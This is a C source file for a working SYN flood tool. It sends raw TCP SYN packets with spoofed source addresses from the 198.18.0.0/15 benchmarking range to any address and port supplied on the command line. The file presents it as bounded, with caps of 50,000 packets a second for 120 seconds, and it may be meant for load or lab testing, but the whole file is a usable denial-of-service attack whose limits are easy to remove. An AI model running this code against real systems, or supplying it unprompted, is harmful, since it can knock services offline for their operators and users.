// SPDX-License-Identifier: BSD-2-Clause
/*
 * A SYN flood, bounded: SYNs from addresses of 198.18.0.0/15 (RFC 2544's, for such tests) that nobody answers for.
 *
 *   synflood ADDRESS PORT PER_SECOND SECONDS       at most 50,000 a second, 120 seconds; IPv4
 *
 * Prints how many it has sent.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t options[4]; /* MSS */
};

static uint64_t now_ns(void)
{
	struct timespec n;

	clock_gettime(CLOCK_MONOTONIC, &n);
	return (uint64_t)n.tv_sec * 1000000000u + (uint64_t)n.tv_nsec;
}

static uint32_t dice(void)
{
	static uint64_t x = 88172645463325252u;

	x ^= x << 13;
	x ^= x >> 7;
	x ^= x << 17;
	return (uint32_t)(x >> 11);
}

/* Of the segment and its pseudo header (RFC 9293, 3.1); the kernel fills in that of IP. */
static uint16_t checksum(const struct syn *s)
{
	const uint16_t length = sizeof(*s) - sizeof(s->ip);
	uint8_t bytes[12 + sizeof(*s) - sizeof(s->ip)] = { 0 };
	uint32_t sum = 0;
	size_t i;

	memcpy(bytes, &s->ip.saddr, 4);
	memcpy(bytes + 4, &s->ip.daddr, 4);
	bytes[9] = IPPROTO_TCP;
	bytes[11] = (uint8_t)length;
	memcpy(bytes + 12, &s->tcp, length);
	for (i = 0; i < sizeof(bytes); i += 2)
		sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void fill(struct syn *s, const struct in_addr *to, uint16_t port)
{
	memset(s, 0, sizeof(*s));
	s->ip.version = 4;
	s->ip.ihl = 5;
	s->ip.ttl = 64;
	s->ip.protocol = IPPROTO_TCP;
	s->ip.tot_len = htons(sizeof(*s));
	s->ip.saddr = htonl(0xc6120000u | (dice() & 0x1ffff));
	s->ip.daddr = to->s_addr;
	s->tcp.source = htons((uint16_t)(1024 + dice() % 64000));
	s->tcp.dest = htons(port);
	s->tcp.seq = dice();
	s->tcp.doff = 6;
	s->tcp.syn = 1;
	s->tcp.window = htons(64240);
	memcpy(s->options, (uint8_t[]){ 2, 4, 1460 >> 8, 1460 & 255 }, 4);
	s->tcp.check = checksum(s);
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	uint64_t began = now_ns(), rate, end, sent = 0;
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	struct syn s;

	if (argc != 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
		fprintf(stderr, "usage: synflood ADDRESS PORT PER_SECOND SECONDS\n");
		return 2;
	}
	rate = strtoull(argv[3], NULL, 10);
	end = strtoull(argv[4], NULL, 10);
	if (fd < 0 || !rate || rate > 50000 || end > 120) {
		fprintf(stderr, "synflood: %s\n", fd < 0 ? strerror(errno) : "at most 50000 a second, 120 seconds");
		return 2;
	}
	end = began + end * 1000000000u;
	while (now_ns() < end) {
		while (sent < (now_ns() - began) * rate / 1000000000u) {
			fill(&s, &to.sin_addr, (uint16_t)atoi(argv[2]));
			if (sendto(fd, &s, sizeof(s), 0, (struct sockaddr *)&to, sizeof(to)) < 0 && errno != ENOBUFS) {
				fprintf(stderr, "synflood: %s\n", strerror(errno));
				return 1;
			}
			sent++;
		}
		nanosleep(&(struct timespec){ .tv_nsec = 1000000 }, NULL);
	}
	printf("%llu\n", (unsigned long long)sent);
	return 0;
}
